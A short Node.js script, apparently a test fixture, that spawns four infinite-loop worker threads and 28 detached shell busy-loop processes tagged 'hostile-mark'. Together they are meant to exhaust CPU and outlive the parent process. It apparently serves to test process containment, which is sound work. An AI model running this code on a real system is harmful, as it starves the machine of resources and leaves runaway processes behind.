import { spawn } from 'node:child_process';
import { Worker } from 'node:worker_threads';

for (let count = 0; count < 28; count += 1) {
  if (count < 4) new Worker('for (;;);', { eval: true }).unref();
  spawn('sh', ['-c', 'while :; do :; done', 'hostile-mark'], { stdio: 'ignore' }).unref();
}
